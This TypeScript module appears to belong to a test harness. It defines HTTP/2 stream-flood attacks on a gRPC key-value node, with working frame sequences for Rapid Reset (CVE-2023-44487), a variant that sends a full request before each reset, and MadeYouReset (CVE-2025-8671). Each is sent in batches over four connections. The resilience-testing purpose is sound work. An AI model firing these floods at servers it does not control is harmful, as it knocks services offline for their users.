import type { Attack } from './attack.js'
import { callHeaders, flags, frame, frameTypes, getRequest, grpcMessage, overConnections, uint32 } from './wire.js'

const connections = 4
/** Streams of one write. */
const batch = 50
/** As long as it may be for a stream's state to be let go: a megabyte for each connection and the streams it may have. */
const streamsBytes = connections * 1_024 * 16_384
const cancel = uint32(8)
const get = grpcMessage(getRequest('nobody has this key'))
const headers = callHeaders('/kv.v1.Kv/Get')

/** What is sent of one stream. */
type OneStream = (id: number) => readonly Buffer[]

function streamFlood(name: string, size: Attack['size'], one: OneStream): Attack {
  return {
    name,
    size,
    mayHoldBytes: () => streamsBytes,
    lingers: true,
    run: (field) =>
      overConnections(
        field,
        connections,
        (raw) => raw.begin(),
        async (raw, most) => {
          const count = Math.min(batch, most)
          await raw.send(Buffer.concat(Array.from({ length: count }, () => Buffer.concat(one(raw.stream())))))
          return count
        },
      ),
  }
}

/** Floods of streams that come to nothing: each makes the node begin something, and costs the attacker a few bytes. */
export const streamFloods: readonly Attack[] = [
  // CVE-2023-44487: begun, and called off in the same breath.
  streamFlood('rapid-reset', { short: 4_000, long: 100_000 }, (id) => [
    frame(frameTypes.headers, flags.endHeaders | flags.endStream, id, headers),
    frame(frameTypes.reset, 0, id, cancel),
  ]),
  // The same with a whole request, so that the handler begins before it hears of it.
  streamFlood('rapid-reset-of-requests', { short: 2_000, long: 100_000 }, (id) => [
    frame(frameTypes.headers, flags.endHeaders, id, headers),
    frame(frameTypes.data, flags.endStream, id, get),
    frame(frameTypes.reset, 0, id, cancel),
  ]),
  // CVE-2025-8671: here it is the node that resets the stream, as its window overflows.
  streamFlood('made-you-reset', { short: 2_000, long: 100_000 }, (id) => [
    frame(frameTypes.headers, flags.endHeaders, id, headers),
    frame(frameTypes.windowUpdate, 0, id, uint32(0x7f_ff_ff_ff)),
  ]),
]
